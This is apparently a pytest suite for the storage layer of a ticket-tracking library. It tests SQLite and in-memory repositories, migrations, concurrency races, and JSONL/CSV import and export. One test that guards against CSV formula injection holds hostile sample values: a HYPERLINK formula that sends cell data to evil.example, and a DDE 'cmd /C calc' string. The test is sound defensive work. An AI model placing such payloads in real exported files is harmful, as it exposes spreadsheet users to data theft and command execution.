"""Storage: the contract over memory and SQLite, and what only a real file can show."""

import io
import json
import multiprocessing
import os
import shutil
import signal
import sqlite3
import subprocess
import sys
import threading
import time
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import attrs
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

import ticketflow as tf
from ticketflow.repository import SCHEMA_VERSION
from ticketflow.testing import RepositoryContract, TicketFactory

from .conftest import EXAMPLES


class TestMemoryRepository(RepositoryContract):
    def make_repository(self, tmp_path: Path) -> tf.TicketRepository:
        return tf.MemoryRepository()


class TestSQLiteRepository(RepositoryContract):
    def make_repository(self, tmp_path: Path) -> tf.TicketRepository:
        return tf.SQLiteRepository(tmp_path / "tickets.db")


def test_both_repositories_satisfy_the_protocol(tmp_path: Path):
    assert isinstance(tf.MemoryRepository(), tf.TicketRepository)
    assert isinstance(tf.SQLiteRepository(tmp_path / "t.db"), tf.TicketRepository)


# -- the file ----------------------------------------------------------------------


def test_tickets_survive_reopening_the_file(tmp_path: Path):
    path = tmp_path / "t.db"
    make = TicketFactory()
    ticket, events = make.new()
    tf.SQLiteRepository(path).add(ticket, events)
    again = tf.SQLiteRepository(path)
    assert again.get(ticket.id) == ticket
    assert again.history(ticket.id) == events


def test_the_schema_is_versioned_in_wal_mode_with_foreign_keys(tmp_path: Path):
    path = tmp_path / "t.db"
    tf.SQLiteRepository(path)
    conn = sqlite3.connect(path)
    assert conn.execute("PRAGMA user_version").fetchone()[0] == SCHEMA_VERSION
    assert conn.execute("PRAGMA journal_mode").fetchone()[0] == "wal"
    tables = {r[0] for r in conn.execute("SELECT name FROM sqlite_master WHERE type = 'table'")}
    assert {"tickets", "events", "ticket_tags", "outbox"} <= tables


def test_an_older_schema_is_migrated_forward_keeping_its_data(tmp_path: Path):
    from ticketflow.repository._sqlite import APPLICATION_ID, MIGRATIONS

    path = tmp_path / "old.db"
    conn = sqlite3.connect(path)
    conn.executescript(MIGRATIONS[0])
    conn.execute(f"PRAGMA application_id = {APPLICATION_ID}")
    conn.execute("PRAGMA user_version = 1")
    conn.commit()
    conn.close()
    make = TicketFactory()
    ticket, events = make.new()
    repo = tf.SQLiteRepository(path)
    repo.add(ticket, events)
    assert repo.pending_messages() == []  # the version 2 table exists
    assert sqlite3.connect(path).execute("PRAGMA user_version").fetchone()[0] == SCHEMA_VERSION


def test_a_newer_schema_is_refused_and_left_alone(tmp_path: Path):
    path = tmp_path / "t.db"
    # Closed now, not whenever the collector gets to it: the last connection to close checkpoints
    # the WAL into the file, which would change its bytes in the middle of the check below.
    tf.SQLiteRepository(path).close()
    conn = sqlite3.connect(path)
    conn.execute("PRAGMA user_version = 99")
    conn.commit()
    conn.close()
    before = path.read_bytes()
    with pytest.raises(tf.StorageError, match="schema version 99 is newer"):
        tf.SQLiteRepository(path)
    assert path.read_bytes() == before


def test_a_foreign_database_is_refused_and_left_alone(tmp_path: Path):
    path = tmp_path / "other.db"
    conn = sqlite3.connect(path)
    conn.execute("CREATE TABLE invoices (id INTEGER)")
    conn.commit()
    conn.close()
    before = path.read_bytes()
    with pytest.raises(tf.StorageError, match="belongs to another application"):
        tf.SQLiteRepository(path)
    assert path.read_bytes() == before


def test_a_file_that_is_not_a_database_is_refused_and_left_alone(tmp_path: Path):
    path = tmp_path / "notes.db"
    path.write_text("these are my notes, not a database\n" * 100)
    before = path.read_bytes()
    with pytest.raises(tf.StorageError, match="not a ticketflow database"):
        tf.SQLiteRepository(path)
    assert path.read_bytes() == before


@pytest.mark.skipif(hasattr(os, "geteuid") and os.geteuid() == 0, reason="root can write anywhere")
def test_a_read_only_place_is_a_clear_error(tmp_path: Path):
    folder = tmp_path / "ro"
    folder.mkdir()
    folder.chmod(0o500)
    try:
        with pytest.raises(tf.StorageError, match="cannot"):
            tf.SQLiteRepository(folder / "t.db")
    finally:
        folder.chmod(0o700)


def test_a_path_that_cannot_be_created_is_a_clear_error(tmp_path: Path):
    with pytest.raises(tf.StorageError, match="cannot"):
        tf.SQLiteRepository(tmp_path / "no" / "such" / "folder" / "t.db")
    with pytest.raises(tf.StorageError, match="SQLiteRepository needs a file"):
        tf.SQLiteRepository(":memory:")


def _open_fresh(path: str, start: float) -> int:
    """Open *path* at the *start* instant; how many migrations this process applied."""
    while time.time() < start:
        time.sleep(0.0005)
    return tf.SQLiteRepository(path, timeout=60)._applied


def test_processes_opening_a_fresh_file_at_once_all_succeed_and_one_creates_the_schema(tmp_path: Path):
    with multiprocessing.get_context("spawn").Pool(8) as pool:
        pool.starmap(_open_fresh, [(str(tmp_path / "warm.db"), 0.0)] * 8)  # start the workers first
        for trial in range(16):
            path = str(tmp_path / f"fresh{trial}.db")
            applied = pool.starmap(_open_fresh, [(path, time.time() + 0.3)] * 8)
            assert sum(applied) == SCHEMA_VERSION, f"trial {trial}: migrations applied {applied}"
            assert sorted(applied)[-2] == 0, f"trial {trial}: more than one process created the schema"


def test_a_full_disk_is_a_storage_error_saying_nothing_was_written(tmp_path: Path):
    repo = tf.SQLiteRepository(tmp_path / "t.db")
    make = TicketFactory()
    kept, kept_events = make.new("T-kept")
    repo.add(kept, kept_events)
    conn = repo._conn  # the size limit is per connection: this one is the repository's
    pages = conn.execute("PRAGMA page_count").fetchone()[0]
    conn.execute(f"PRAGMA max_page_count = {pages}")
    big, big_events = make.new("T-big", title="x" * 200_000)
    with pytest.raises(tf.StorageError, match=r"full.*nothing was written"):
        repo.add(big, big_events)
    with pytest.raises(tf.TicketNotFound):
        repo.get("T-big")
    assert repo.get("T-kept") == kept
    conn.execute("PRAGMA max_page_count = 1073741823")
    repo.add(big, big_events)
    assert repo.get("T-big") == big


def test_a_read_only_file_is_read_and_a_write_says_it_is_read_only(tmp_path: Path):
    path = tmp_path / "t.db"
    repo = tf.SQLiteRepository(path)
    make = TicketFactory()
    ticket, events = make.new("T-1")
    repo.add(ticket, events)
    repo.close()
    # Root ignores permission bits, so the file is made immutable: read-only even for root.
    chattr = shutil.which("chattr") or "chattr"
    immutable = subprocess.run([chattr, "+i", str(path)], capture_output=True, check=False)  # noqa: S603 - fixed args
    if immutable.returncode:
        pytest.skip("chattr +i is not available here: cannot make a file read-only for this user")
    try:
        again = tf.SQLiteRepository(path)
        assert again.get("T-1") == ticket
        other, other_events = make.new("T-2")
        with pytest.raises(tf.StorageError, match=r"read-only.*nothing was written"):
            again.add(other, other_events)
        again.close()
    finally:
        subprocess.run([chattr, "-i", str(path)], check=True)  # noqa: S603 - fixed args


@pytest.mark.parametrize(
    ("column", "value"),
    [("fields", "{not json"), ("created_at", "yesterday"), ("participants", "[" * 100_000)],
)
def test_a_damaged_ticket_row_is_a_storage_error_saying_so(tmp_path: Path, column: str, value: str):
    path = tmp_path / "t.db"
    repo = tf.SQLiteRepository(path)
    ticket, events = TicketFactory().new("T-1")
    repo.add(ticket, events)
    with sqlite3.connect(path) as conn:
        conn.execute(f"UPDATE tickets SET {column} = ?", (value,))  # noqa: S608
    with pytest.raises(tf.StorageError, match="damaged"):
        repo.get("T-1")
    with pytest.raises(tf.StorageError, match="damaged"):
        repo.find()


def test_a_damaged_event_row_is_a_storage_error_saying_so(tmp_path: Path):
    path = tmp_path / "t.db"
    repo = tf.SQLiteRepository(path)
    ticket, events = TicketFactory().new("T-1")
    repo.add(ticket, events)
    with sqlite3.connect(path) as conn:
        conn.execute("UPDATE events SET body = '[1, 2'")
    with pytest.raises(tf.StorageError, match="damaged"):
        repo.history("T-1")


def test_import_of_a_deeply_nested_line_is_a_storage_error(tmp_path: Path):
    line = '{"ticket": ' + "[" * 100_000 + "]" * 100_000 + ', "events": []}'
    with pytest.raises(tf.StorageError, match="<jsonl>:1: not a ticket record"):
        tf.import_jsonl(tf.MemoryRepository(), io.StringIO(line + "\n"))


# -- races -------------------------------------------------------------------------

HELPDESK = EXAMPLES / "custom_lifecycle.toml"
AGENT = tf.Actor("agent", roles={"agent"})


def _open_escalatable(repo: tf.TicketRepository) -> str:
    wf = tf.Workflow(tf.load_lifecycle(HELPDESK), repo)
    ticket = wf.open(tf.Actor("a", roles={"agent"}), title="race", fields={"priority": "high"}, requester="r")
    wf.fire(ticket.id, "triage", AGENT, fields={"category": "access"})
    return ticket.id


def _fire_many(path: str, ticket_id: str, count: int, retries: int, start: float = 0.0) -> tuple[int, int]:
    """Fire `escalate` (triaged/in_progress -> in_progress) count times; return (accepted, conflicts).

    Every worker waits for the same *start* instant, so they really race.
    """
    wf = tf.Workflow(tf.load_lifecycle(HELPDESK), tf.SQLiteRepository(path), max_retries=retries)
    accepted = conflicts = 0
    while time.time() < start:
        time.sleep(0.001)
    for _ in range(count):
        try:
            wf.fire(ticket_id, "escalate", AGENT)
            accepted += 1
        except tf.ConcurrencyConflict:
            conflicts += 1
    return accepted, conflicts


def _check_history(repo: tf.TicketRepository, ticket_id: str, expected_events: int) -> None:
    history = repo.history(ticket_id)
    assert [e.seq for e in history] == list(range(1, expected_events + 1))
    assert tf.replay(history) == repo.get(ticket_id)


def test_threads_racing_on_one_ticket_lose_no_event(tmp_path: Path):
    path = str(tmp_path / "t.db")
    ticket_id = _open_escalatable(tf.SQLiteRepository(path))
    results: list[tuple[int, int]] = []
    threads = [
        threading.Thread(target=lambda: results.append(_fire_many(path, ticket_id, 40, retries=100))) for _ in range(4)
    ]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert sum(a for a, _ in results) == 160
    _check_history(tf.SQLiteRepository(path), ticket_id, 2 + 160)


def test_racing_processes_without_retries_commit_or_conflict_and_lose_nothing(tmp_path: Path, race_report):
    path = str(tmp_path / "t.db")
    ticket_id = _open_escalatable(tf.SQLiteRepository(path))
    with multiprocessing.get_context("spawn").Pool(4) as pool:
        results = pool.starmap(_fire_many, [(path, ticket_id, 50, 0, time.time() + 2)] * 4)
    accepted = sum(a for a, _ in results)
    conflicts = sum(c for _, c in results)
    assert accepted + conflicts == 200  # each fire either committed or was refused as a conflict
    assert accepted >= 1
    race_report(fires=200, accepted=accepted, conflicts=conflicts)  # how often they collided depends on the load
    _check_history(tf.SQLiteRepository(path), ticket_id, 2 + accepted)


def test_processes_racing_with_retries_lose_no_event(tmp_path: Path):
    path = str(tmp_path / "t.db")
    ticket_id = _open_escalatable(tf.SQLiteRepository(path))
    with multiprocessing.get_context("spawn").Pool(4) as pool:
        results = pool.starmap(_fire_many, [(path, ticket_id, 50, 1000, time.time() + 2)] * 4)
    assert sum(a for a, _ in results) == 200
    _check_history(tf.SQLiteRepository(path), ticket_id, 2 + 200)


KILLED_WRITER = """
import sys, ticketflow as tf
path = sys.argv[1]
lc = tf.load_lifecycle(sys.argv[2])
wf = tf.Workflow(lc, tf.SQLiteRepository(path))
agent = tf.Actor("agent", roles={"agent"})
ids = [
    wf.open(tf.Actor("a", roles={"agent"}), title=f"t{i}", fields={"priority": "high"}, requester="r").id
    for i in range(20)
]
for tid in ids:
    wf.fire(tid, "triage", agent, fields={"category": "access"})
print("ready", flush=True)
i = 0
while True:
    tid = ids[i % len(ids)]
    tags = {"add_tags": ["vip"]} if i % 2 else {"remove_tags": ["vip"]}
    wf.update(tid, agent, fields={"due": f"2026-01-{1 + i % 28:02d}"}, **tags)
    wf.fire(tid, "escalate", agent, comment=f"step {i}")
    i += 1
"""


def test_a_process_killed_mid_stream_leaves_every_ticket_equal_to_its_replay(tmp_path: Path):
    path = tmp_path / "t.db"
    writer = subprocess.Popen(  # noqa: S603 - our own interpreter running our own script
        [sys.executable, "-c", KILLED_WRITER, str(path), str(HELPDESK)], stdout=subprocess.PIPE, text=True
    )
    assert writer.stdout is not None
    assert writer.stdout.readline().strip() == "ready"
    time.sleep(0.6)
    os.kill(writer.pid, signal.SIGKILL)
    writer.wait()
    writer.stdout.close()
    repo = tf.SQLiteRepository(path)
    tickets = repo.find(limit=100).tickets
    assert len(tickets) == 20
    total = 0
    for ticket in tickets:
        history = repo.history(ticket.id)
        assert tf.replay(history) == ticket
        total += len(history)
    assert total > 20 * 2 + 10  # the writer got well into the stream before it was killed


# -- model-based: SQLite behaves like memory ---------------------------------------

operations = st.lists(
    st.tuples(
        st.sampled_from(["add", "start", "finish", "stale", "tag", "find", "due", "count"]),
        st.integers(0, 5),
        st.integers(0, 48),
    ),
    max_size=30,
)


def _apply(repo: tf.TicketRepository, make: TicketFactory, ops: list[tuple[str, int, int]]) -> list[Any]:
    from datetime import UTC, datetime, timedelta

    base = datetime(2026, 1, 5, tzinfo=UTC)
    observed: list[Any] = []
    for op, n, hours in ops:
        ticket_id = f"T{n}"
        try:
            if op == "add":
                ticket, events = make.new(ticket_id, at=base + timedelta(hours=hours))
                repo.add(ticket, events, due=base + timedelta(hours=hours + n))
            elif op in ("start", "finish", "stale", "tag"):
                ticket = repo.get(ticket_id)
                trigger = "finish" if op == "finish" else "start"
                kwargs: dict[str, Any] = {"add_tags": ["t"]} if op == "tag" else {}
                if op == "tag":
                    trigger = "update"
                new, event = make.step(ticket, trigger, **kwargs)
                version = ticket.version - 1 if op == "stale" else ticket.version
                repo.save(new, [event], version, due=None if op == "finish" else base + timedelta(hours=hours))
            elif op == "find":
                observed.append(list(repo.find(limit=3, state=["new", "open"]).tickets))
            elif op == "due":
                observed.append(repo.due(base + timedelta(hours=hours), limit=4))
            else:
                observed.append(repo.count(tag="t"))
        except tf.TicketflowError as exc:
            observed.append(type(exc).__name__)
    observed.append([(t, repo.history(t.id)) for t in repo.find(limit=100).tickets])
    return observed


@settings(max_examples=30)
@given(operations)
def test_sqlite_gives_the_same_results_as_memory(tmp_path_factory: pytest.TempPathFactory, ops: list[Any]):
    path = tmp_path_factory.mktemp("model") / "t.db"
    assert _apply(tf.MemoryRepository(), TicketFactory(), ops) == _apply(
        tf.SQLiteRepository(path), TicketFactory(), ops
    )


# -- export and import -------------------------------------------------------------


def _filled(repo: tf.TicketRepository) -> tf.Workflow:
    wf = tf.Workflow(tf.load_lifecycle(HELPDESK), repo)
    for i in range(7):
        t = wf.open(
            tf.Actor("a", roles={"agent"}), title=f'Ticket, "{i}"', tags={"vip"} if i % 2 else (), requester=f"r{i}"
        )
        wf.fire(t.id, "triage", AGENT, fields={"category": "access", "due": "2026-02-01"}, comment="triaged")
    return wf


def test_jsonl_round_trip_loses_nothing(tmp_path: Path):
    source = tf.SQLiteRepository(tmp_path / "a.db")
    _filled(source)
    first = io.StringIO()
    assert tf.export_jsonl(source, first) == 7
    target = tf.SQLiteRepository(tmp_path / "b.db")
    assert tf.import_jsonl(target, io.StringIO(first.getvalue())) == 7
    second = io.StringIO()
    tf.export_jsonl(target, second)
    assert first.getvalue() == second.getvalue()
    memory = tf.MemoryRepository()
    tf.import_jsonl(memory, io.StringIO(first.getvalue()))
    third = io.StringIO()
    tf.export_jsonl(memory, third)
    assert third.getvalue() == first.getvalue()


def test_import_refuses_inconsistent_records_and_imports_nothing(tmp_path: Path):
    source = tf.MemoryRepository()
    _filled(source)
    out = io.StringIO()
    tf.export_jsonl(source, out)
    lines = out.getvalue().splitlines()
    record = json.loads(lines[3])
    record["ticket"]["state"] = "closed"
    lines[3] = json.dumps(record)
    target = tf.MemoryRepository()
    with pytest.raises(tf.StorageError, match=r"export.jsonl:4: ticket .* does not equal the replay"):
        tf.import_jsonl(target, io.StringIO("\n".join(lines)), source="export.jsonl")
    with pytest.raises(tf.StorageError, match=":2: not a ticket record"):
        tf.import_jsonl(target, io.StringIO(lines[0] + "\n{not json\n"))
    assert target.count() == 0


@pytest.mark.parametrize(
    ("damage", "message"),
    [
        (
            lambda r: r["events"][1].update(at="2026-01-05T10:00:00"),
            "events[1]: not an event record (NaiveDatetime('at must be",
        ),
        (
            lambda r: r["events"][0].update(at="soon"),
            "events[0]: not an event record (ValueError(\"Invalid isoformat string: 'soon'\"))",
        ),
        (
            lambda r: r["events"][0]["actor"].update(roles="agent"),
            'events[0]: not an event record (TypeError("roles must be',
        ),
        (
            lambda r: r["ticket"].update(created_at="2026-01-05T10:00:00"),
            "ticket: not a ticket record (NaiveDatetime('created_at",
        ),
        (lambda r: r.update(events={}), "events: expected a list, got {}"),
        (lambda r: r.update(events=[5]), "events[0]: expected an object, got 5"),
        (lambda r: r.update(ticket=["T-1"]), "ticket: expected an object, got ('T-1',)"),
        (lambda r: r.pop("ticket"), "not a ticket record: expected an object with 'ticket' and 'events'"),
    ],
)
def test_an_import_refusal_names_the_part_of_the_record_and_why(damage: Any, message: str):
    source = tf.MemoryRepository()
    _filled(source)
    out = io.StringIO()
    tf.export_jsonl(source, out)
    record = json.loads(out.getvalue().splitlines()[0])
    damage(record)
    target = tf.MemoryRepository()
    with pytest.raises(tf.StorageError) as caught:
        tf.import_jsonl(target, io.StringIO(json.dumps(record) + "\n"), source="export.jsonl")
    assert str(caught.value).startswith(f"export.jsonl:1: {message}")
    assert target.count() == 0


def test_csv_has_one_row_per_ticket_with_chosen_columns(tmp_path: Path):
    import csv

    repo = tf.SQLiteRepository(tmp_path / "t.db")
    _filled(repo)
    out = io.StringIO()
    assert tf.export_csv(repo, out, ["id", "title", "state", "tags", "field:category"], tag="vip") == 3
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert rows[0] == ["id", "title", "state", "tags", "field:category"]
    assert [r[2:] for r in rows[1:]] == [["triaged", "vip", "access"]] * 3
    assert rows[1][1].startswith('Ticket, "')
    with pytest.raises(tf.StorageError, match="unknown CSV column"):
        tf.export_csv(repo, io.StringIO(), ["colour"])


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_cells_that_would_run_as_spreadsheet_formulas_get_a_quote_unless_raw(start: str):
    import csv

    wf = tf.Workflow(tf.load_lifecycle(HELPDESK))
    formula = f'{start}HYPERLINK("http://evil.example/?"&A1,"Click")'
    customer = tf.Actor(f"{start}cmd|' /C calc'!A0", roles={"requester"})
    t = wf.open(customer, title=formula, fields={"category": "access"})
    wf.fire(t.id, "triage", AGENT, fields={"resolution": formula}, participants={"@mallory"})
    columns = ["id", "title", "requester", "participants", "field:resolution", "version"]

    def rows(**kwargs: Any) -> list[list[str]]:
        out = io.StringIO()
        tf.export_csv(wf.repository, out, columns, **kwargs)
        return list(csv.reader(io.StringIO(out.getvalue())))

    assert rows()[1][1:] == ["'" + formula, "'" + customer.id, "'@mallory", "'" + formula, "2"]
    assert rows(raw=True)[1][1:] == [formula, customer.id, "@mallory", formula, "2"]  # asked for explicitly
    view = io.StringIO()
    wf.export_view(view, columns=columns)
    assert list(csv.reader(io.StringIO(view.getvalue())))[1] == rows()[1]
    view = io.StringIO()
    wf.export_view(view, columns=columns, raw=True)
    assert list(csv.reader(io.StringIO(view.getvalue())))[1] == rows(raw=True)[1]
    harmless = wf.open(AGENT, title="Printer: 3-4 pages = jam", fields={"category": "hardware"})
    assert [r[1] for r in rows() if r[0] == harmless.id] == ["Printer: 3-4 pages = jam"]  # only a formula's start


# -- PostgreSQL ----------------------------------------------------------------------

POSTGRES_URL = os.environ.get("TICKETFLOW_TEST_POSTGRES_URL")
needs_postgres = pytest.mark.skipif(
    not POSTGRES_URL,
    reason="PostgreSQL TESTS SKIPPED: set TICKETFLOW_TEST_POSTGRES_URL=postgresql+psycopg://postgres@127.0.0.1:5432/test",
)


def postgres_repository(**kwargs: Any) -> Any:
    import uuid

    from ticketflow.repository.postgres import PostgresRepository

    assert POSTGRES_URL is not None
    return PostgresRepository(POSTGRES_URL, schema=f"tf_test_{uuid.uuid4().hex[:12]}", **kwargs)


@needs_postgres
class TestPostgresRepository(RepositoryContract):
    def make_repository(self, tmp_path: Path) -> tf.TicketRepository:
        repository: tf.TicketRepository = postgres_repository()
        return repository

    def close_repository(self, repository: tf.TicketRepository) -> None:
        repository.drop_schema()  # type: ignore[attr-defined]


@needs_postgres
@settings(max_examples=15)
@given(operations)
def test_postgres_gives_the_same_results_as_memory(ops: list[Any]):
    repo = postgres_repository()
    try:
        assert _apply(tf.MemoryRepository(), TicketFactory(), ops) == _apply(repo, TicketFactory(), ops)
    finally:
        repo.drop_schema()


def test_postgres_tests_say_loudly_when_they_are_skipped():
    if not POSTGRES_URL:  # the -ra summary prints this reason at the end of every run
        pytest.skip("PostgreSQL TESTS SKIPPED: TICKETFLOW_TEST_POSTGRES_URL is not set")
    assert POSTGRES_URL.startswith("postgresql")


@settings(max_examples=40)
@given(st.lists(st.tuples(st.integers(0, 30), st.one_of(st.none(), st.integers(0, 6))), max_size=80))
def test_memory_due_index_follows_every_move_of_a_due_instant(moves: list[tuple[int, int | None]]):
    # Equal instants on purpose (hours 0-6): ties come back in ticket-id order, and a moved or
    # cleared instant is gone from the index, whatever order the moves came in.
    base = datetime(2026, 1, 5, tzinfo=UTC)
    repo, make = tf.MemoryRepository(), TicketFactory()
    expected: dict[str, datetime] = {}
    for n in range(31):
        ticket, events = make.new(f"T{n:02d}")
        repo.add(ticket, events)
    for n, hours in moves:
        due = None if hours is None else base + timedelta(hours=hours)
        repo.reschedule(f"T{n:02d}", due)
        if due is None:
            expected.pop(f"T{n:02d}", None)
        else:
            expected[f"T{n:02d}"] = due
    reference = sorted(((when, ticket_id) for ticket_id, when in expected.items()))
    assert [(i, w) for w, i in reference] == repo.due(base + timedelta(days=1), limit=100)
    assert [(i, w) for w, i in reference if w <= base + timedelta(hours=3)][:5] == repo.due(
        base + timedelta(hours=3), limit=5
    )
    assert [(i, w) for w, i in reference] == repo.due(base + timedelta(days=1), limit=100)  # reading took nothing


def test_memory_due_index_stays_the_size_of_the_due_tickets_however_often_they_move():
    base = datetime(2026, 1, 5, tzinfo=UTC)
    repo, make = tf.MemoryRepository(), TicketFactory()
    for n in range(50):
        ticket, events = make.new(f"T{n:02d}")
        repo.add(ticket, events)
    for step in range(20_000):  # each move leaves the old instant behind in the index, until it is compacted
        repo.reschedule(f"T{step % 50:02d}", None if step % 7 == 0 else base + timedelta(minutes=step))
    due = repo.due(base + timedelta(days=30), limit=100)
    assert len(repo._due_heap) <= 2 * 50 + 1024 + 1
    assert due == sorted(due, key=lambda item: (item[1], item[0]))
    last = {f"T{step % 50:02d}": step for step in range(20_000)}
    assert due == sorted(
        ((ticket_id, base + timedelta(minutes=step)) for ticket_id, step in last.items() if step % 7),
        key=lambda item: (item[1], item[0]),
    )


def test_memory_save_of_a_plain_move_still_checks_a_new_actor_and_a_new_state_name():
    # MemoryRepository skips values a save keeps from the stored ticket (the same objects) and the last
    # actor found fine; anything new in the step is checked as before.
    from ticketflow.model import Event as _Event

    repo = tf.MemoryRepository()
    at = datetime(2026, 1, 5, 9, tzinfo=UTC)
    fine = tf.Actor("agent-1", roles={"agent"})
    first = tf.Ticket("T-1", "lc", "a", 1, at, at, title="ok")
    repo.add(first, [_Event("T-1", 1, at, fine, "open", None, "a")])
    moved = attrs.evolve(first, state="b", version=2)
    repo.save(moved, [_Event("T-1", 2, at, fine, "go", "a", "b")], 1)  # fine; `fine` is now the last actor seen
    hostile = tf.Actor("agent-\x00", roles={"agent"})
    back = attrs.evolve(moved, state="a", version=3)
    with pytest.raises(tf.StorageError, match="event 3"):
        repo.save(back, [_Event("T-1", 3, at, hostile, "back", "b", "a")], 2)
    odd_state = attrs.evolve(moved, state="b\ud800", version=3)
    with pytest.raises(tf.StorageError, match="state"):
        repo.save(odd_state, [_Event("T-1", 3, at, fine, "go", "b", "b\ud800")], 2)
    retitled = attrs.evolve(moved, title="bad\x00", version=3)
    with pytest.raises(tf.StorageError, match="title"):
        repo.save(retitled, [_Event("T-1", 3, at, fine, "update", "b", "b")], 2)
    assert repo.get("T-1") == moved
    assert [e.seq for e in repo.history("T-1")] == [1, 2]


def test_sqlite_saves_write_only_the_ticket_columns_their_events_changed(tmp_path: Path):
    path = tmp_path / "t.db"
    wf = tf.Workflow(tf.load_lifecycle(HELPDESK), tf.SQLiteRepository(path))
    ticket = wf.open(AGENT, title="printer", fields={"priority": "high"}, requester="r")
    columns = ("state", "title", "fields", "requester", "assignee", "participants")
    with sqlite3.connect(path) as conn:  # `UPDATE OF c` fires when c is in the SET clause, changed or not
        conn.execute("CREATE TABLE written (ticket_id TEXT, version INTEGER, col TEXT)")
        for column in columns:
            trigger = f"CREATE TRIGGER written_{column} AFTER UPDATE OF {column} ON tickets "
            conn.execute(trigger + f"BEGIN INSERT INTO written VALUES (new.id, new.version, '{column}'); END")  # noqa: S608

    def written(version: int) -> set[str]:
        with sqlite3.connect(path) as conn:
            rows = conn.execute("SELECT col FROM written WHERE ticket_id = ? AND version = ?", (ticket.id, version))
            return {row[0] for row in rows}

    after = wf.comment(ticket.id, AGENT, "a note", visibility="internal")
    assert written(after.version) == set()
    after = wf.fire(ticket.id, "triage", AGENT, fields={"category": "access"})
    assert written(after.version) == {"state", "fields"}
    after = wf.update(ticket.id, AGENT, assignee="agent")
    assert written(after.version) == {"assignee"}
    assert wf.get(ticket.id) == tf.replay(wf.history(ticket.id))
    assert tf.SQLiteRepository(path).get(ticket.id) == after


def test_every_thread_writes_with_synchronous_normal(tmp_path: Path):
    """WAL with synchronous=NORMAL is a per-connection setting: the connection a new thread opens has it too."""
    repo = tf.SQLiteRepository(tmp_path / "t.db")
    seen: list[int] = []

    def look() -> None:
        seen.append(repo._conn.execute("PRAGMA synchronous").fetchone()[0])
        repo.close()

    worker = threading.Thread(target=look)
    worker.start()
    worker.join()
    assert seen == [1]  # NORMAL (FULL, the default, is 2)
    assert repo._conn.execute("PRAGMA synchronous").fetchone()[0] == 1


def test_sqlite_save_of_one_event_and_of_several_keeps_tags_and_events_in_step(tmp_path: Path):
    """The one-event save (every fire) and the several-event save write the same rows as the memory store."""
    make = TicketFactory()
    ticket, events = make.new()
    repos: list[tf.TicketRepository] = [tf.SQLiteRepository(tmp_path / "t.db"), tf.MemoryRepository()]
    tagged, first = make.step(ticket, "update", add_tags={"a", "b"})
    untagged, second = make.step(tagged, "start", remove_tags={"a"}, add_tags={"c"})
    last, third = make.step(untagged, "update", remove_tags={"b", "c"}, add_tags={"d"})
    for repo in repos:
        repo.add(ticket, events)
        repo.save(tagged, [first], ticket.version)
        repo.save(last, [second, third], tagged.version)
    sqlite, memory = repos
    assert sqlite.get(ticket.id) == memory.get(ticket.id) == last
    assert sqlite.get(ticket.id).tags == {"d"}
    assert sqlite.history(ticket.id) == memory.history(ticket.id) == [*events, first, second, third]
    assert sqlite.find(tag="a").tickets == ()
    assert [t.id for t in sqlite.find(tag="d").tickets] == [ticket.id]
    with pytest.raises(tf.ConcurrencyConflict):
        sqlite.save(untagged, [second], tagged.version)  # the version check, on the one-event path
    assert sqlite.history(ticket.id)[-1] == third
